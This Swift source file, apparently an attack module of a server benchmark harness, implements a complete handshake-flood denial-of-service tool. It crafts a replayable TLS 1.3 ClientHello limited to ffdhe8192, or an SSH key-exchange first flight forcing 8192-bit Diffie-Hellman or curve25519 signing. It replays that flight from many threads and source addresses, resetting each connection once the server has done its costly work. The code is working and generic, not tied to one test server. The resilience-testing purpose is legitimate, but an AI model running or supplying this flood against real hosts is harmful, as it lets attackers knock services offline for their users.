import COpenSSL
import Foundation
import MicroblogTestSupport

/// Key exchanges that cost the server far more than the attacker: the same first flight, made once,
/// replayed on fresh sockets by `inFlight` threads spread over `addresses` source addresses; each reads
/// until the server answers or closes, then resets the connection. Counted: what the server answered
/// (TLS: a ServerHello or an alert; SSH: a KEXDH_REPLY or KEX_ECDH_REPLY, or a disconnect), closes without an answer,
/// timeouts and connect failures.
struct HandshakeFlood: Attack {
    enum Kind {
        /// TLS 1.3 offering only ffdhe8192 key shares.
        case tlsFFDHE
        /// TLS 1.3 with an ordinary X25519 key share.
        case tlsX25519
        /// SSH with only diffie-hellman-group18-sha512 (an 8192-bit modular exponentiation per connection).
        case sshGroup18
        /// SSH with curve25519-sha256, the key exchange the server offers: an X25519 and an Ed25519
        /// signature per connection, the most an SSH client can make the server compute before it
        /// authenticates.
        case sshCurve25519

        var isSSH: Bool { self == .sshGroup18 || self == .sshCurve25519 }
    }

    let kind: Kind
    let inFlight: Int
    let addresses: Int
    /// The attack threads under `SCHED_IDLE`: when they share a CPU with a load generator measuring
    /// latency (`fanout --flood`), whose clock they must not hold up.
    var idle = false
    /// How long one attempt waits for the server's answer.
    static let answerTimeout = 15.0
    /// The outcomes counted as the server's answer: it took the key exchange up (or refused it in words).
    static let answers: Set<String> = [
        "server hellos", "alerts", "other answers", sshKexReply, "disconnects",
    ]
    static let sshKexReply = "kex replies (server computed DH)"
    static let connectFailed = "connect failed"
    static let timedOut = "timeouts"

    var needs: AttackNeeds {
        var needs = AttackNeeds()
        needs.tls = !kind.isSSH
        needs.ssh = kind.isSSH
        return needs
    }

    func start(phase: Int, target: AttackTarget, run: AttackRun) {
        let firstFlight: [UInt8]
        do {
            switch kind {
            case .tlsFFDHE: firstFlight = try TLSClientHello.make(groups: "ffdhe8192")
            case .tlsX25519: firstFlight = try TLSClientHello.make(groups: "X25519")
            case .sshGroup18: firstFlight = SSHKexInit.group18FirstFlight()
            case .sshCurve25519: firstFlight = SSHKexInit.curve25519FirstFlight()
            }
        } catch {
            Progress.say("microblog-bench: \(error)")
            run.count("could not make the first flight")
            return
        }
        guard let port = kind.isSSH ? target.sshPort : target.tlsPort else { return }
        let sources = AttackTarget.attackerAddresses(addresses)
        let isSSH = kind.isSSH
        for index in 0..<max(1, inFlight) {
            let source = sources[index % sources.count]
            run.spawn(idle: idle) {
                while run.shouldRun {
                    let outcome =
                        isSSH
                        ? Self.sshAttempt(target: target, port: port, source: source, flight: firstFlight)
                        : Self.tlsAttempt(target: target, port: port, source: source, hello: firstFlight)
                    run.count(outcome)
                    if outcome == Self.connectFailed { run.pause(0.05) }
                }
            }
        }
    }

    /// One ClientHello on a fresh socket: what came back first.
    private static func tlsAttempt(target: AttackTarget, port: UInt16, source: String, hello: [UInt8]) -> String {
        guard let connection = try? RawConnection(target: target, port: port, source: source) else {
            return connectFailed
        }
        defer { connection.reset() }
        guard connection.send(hello) else { return "closed before the hello was sent" }
        switch connection.read(deadline: Date().addingTimeInterval(answerTimeout)) {
        case .bytes(let bytes):
            // A TLS record's first byte is its content type: 22 handshake (the ServerHello), 21 alert.
            switch bytes.first {
            case 22: return "server hellos"
            case 21: return "alerts"
            default: return "other answers"
            }
        case .closed: return "closed without answer"
        case .timedOut: return timedOut
        }
    }

    /// One SSH key exchange on a fresh socket: the banner, then the KEXINIT and KEXDH_INIT (or
    /// KEX_ECDH_INIT) once the server's banner came; then its packets until a KEXDH_REPLY or
    /// KEX_ECDH_REPLY (both 31) or DISCONNECT (1), or its close.
    private static func sshAttempt(target: AttackTarget, port: UInt16, source: String, flight: [UInt8]) -> String {
        guard let connection = try? RawConnection(target: target, port: port, source: source) else {
            return connectFailed
        }
        defer { connection.reset() }
        guard connection.send(Array("SSH-2.0-attack_1.0\r\n".utf8)) else { return "closed before the banner" }
        let deadline = Date().addingTimeInterval(answerTimeout)
        var received: [UInt8] = []
        var bannerEnd: Int?
        var sentFlight = false
        while true {
            if bannerEnd == nil, let newline = received.firstIndex(of: 10) {
                bannerEnd = newline + 1
            }
            if let start = bannerEnd {
                if !sentFlight {
                    guard connection.send(flight) else { return "closed before the key exchange" }
                    sentFlight = true
                }
                // Binary packets: uint32 length, byte padding length, then the message number.
                var offset = start
                while offset + 6 <= received.count {
                    let length = received[offset..<offset + 4].reduce(0) { $0 << 8 | Int($1) }
                    switch received[offset + 5] {
                    case 31: return sshKexReply
                    case 1: return "disconnects"
                    default: break
                    }
                    offset += 4 + length
                }
            }
            switch connection.read(deadline: deadline) {
            case .bytes(let bytes): received += bytes
            case .closed: return sentFlight ? "closed after kexinit" : "closed before kexinit"
            case .timedOut: return timedOut
            }
        }
    }
}

/// A TLS 1.3 ClientHello made once by OpenSSL on memory BIOs (no socket), for replaying.
enum TLSClientHello {
    static func make(groups: String) throws -> [UInt8] {
        guard let context = SSL_CTX_new(TLS_client_method()) else { throw BenchError("SSL_CTX_new failed") }
        defer { SSL_CTX_free(context) }
        _ = SSL_CTX_ctrl(context, SSL_CTRL_SET_MIN_PROTO_VERSION, Int(TLS1_3_VERSION), nil)
        _ = SSL_CTX_ctrl(context, SSL_CTRL_SET_MAX_PROTO_VERSION, Int(TLS1_3_VERSION), nil)
        guard let ssl = SSL_new(context) else { throw BenchError("SSL_new failed") }
        defer { SSL_free(ssl) }
        // SSL_set1_groups_list is a macro over SSL_ctrl.
        let set = groups.withCString {
            SSL_ctrl(ssl, SSL_CTRL_SET_GROUPS_LIST, 0, UnsafeMutableRawPointer(mutating: $0))
        }
        guard set == 1 else { throw BenchError("OpenSSL refused the groups \(groups)") }
        guard let input = BIO_new(BIO_s_mem()), let output = BIO_new(BIO_s_mem()) else {
            throw BenchError("BIO_new failed")
        }
        SSL_set_bio(ssl, input, output)  // the SSL owns both from here
        SSL_set_connect_state(ssl)
        _ = SSL_do_handshake(ssl)  // wants to read: the hello is in the output BIO
        let pending = Int(BIO_ctrl_pending(output))
        guard pending > 0 else { throw BenchError("OpenSSL made no ClientHello for \(groups)") }
        var hello = [UInt8](repeating: 0, count: pending)
        let read = hello.withUnsafeMutableBytes { BIO_read(output, $0.baseAddress, Int32(pending)) }
        return Array(hello.prefix(Int(max(0, read))))
    }
}

/// The client's unencrypted KEXINIT and first key-exchange packet (RFC 4253 §6, §7, §8; RFC 8731 for
/// curve25519-sha256), made once and replayed.
enum SSHKexInit {
    /// KEXINIT and KEXDH_INIT for diffie-hellman-group18-sha512. `e` is a fixed random 8192-bit value
    /// below group 18's prime (its top bit cleared; the prime's top bits are all ones).
    static func group18FirstFlight(seed: UInt64 = 18) -> [UInt8] {
        var random = SplitMix64(seed: seed)
        let kexinit = kexinit(keyExchange: "diffie-hellman-group18-sha512", random: &random)
        var e = (0..<1024).map { _ in UInt8(truncatingIfNeeded: random.next()) }
        e[0] = (e[0] & 0x3f) | 0x40  // below 2^8191 and without a leading zero byte: a positive mpint as is
        let kexdhInit: [UInt8] = [30] + string(e)
        return packet(kexinit, random: &random) + packet(kexdhInit, random: &random)
    }

    /// KEXINIT and KEX_ECDH_INIT for curve25519-sha256. `Q_C` is a fixed random 32 bytes: every 32-byte
    /// string is an X25519 public key, so the server computes the shared secret and signs the exchange
    /// hash with its host key before it can tell that the client never will.
    static func curve25519FirstFlight(seed: UInt64 = 25519) -> [UInt8] {
        var random = SplitMix64(seed: seed)
        let kexinit = kexinit(keyExchange: "curve25519-sha256", random: &random)
        let publicKey = (0..<32).map { _ in UInt8(truncatingIfNeeded: random.next()) }
        let ecdhInit: [UInt8] = [30] + string(publicKey)
        return packet(kexinit, random: &random) + packet(ecdhInit, random: &random)
    }

    /// A KEXINIT payload offering only `keyExchange`, host key ssh-ed25519, aes128-ctr, hmac-sha2-256 and
    /// no compression.
    private static func kexinit(keyExchange: String, random: inout SplitMix64) -> [UInt8] {
        var kexinit: [UInt8] = [20]
        kexinit += (0..<16).map { _ in UInt8(truncatingIfNeeded: random.next()) }
        for list in [
            keyExchange, "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256", "hmac-sha2-256", "none", "none",
            "", "",
        ] {
            kexinit += string(Array(list.utf8))
        }
        kexinit += [0, 0, 0, 0, 0]  // first_kex_packet_follows false, reserved 0
        return kexinit
    }

    private static func string(_ bytes: [UInt8]) -> [UInt8] { uint32(bytes.count) + bytes }

    private static func uint32(_ value: Int) -> [UInt8] {
        [UInt8(value >> 24 & 0xff), UInt8(value >> 16 & 0xff), UInt8(value >> 8 & 0xff), UInt8(value & 0xff)]
    }

    /// uint32 packet_length, byte padding_length, payload, padding (at least 4 bytes; the whole a
    /// multiple of 8), no MAC.
    private static func packet(_ payload: [UInt8], random: inout SplitMix64) -> [UInt8] {
        var padding = 8 - (5 + payload.count) % 8
        if padding < 4 { padding += 8 }
        let padded = payload + (0..<padding).map { _ in UInt8(truncatingIfNeeded: random.next()) }
        return uint32(1 + padded.count) + [UInt8(padding)] + padded
    }
}
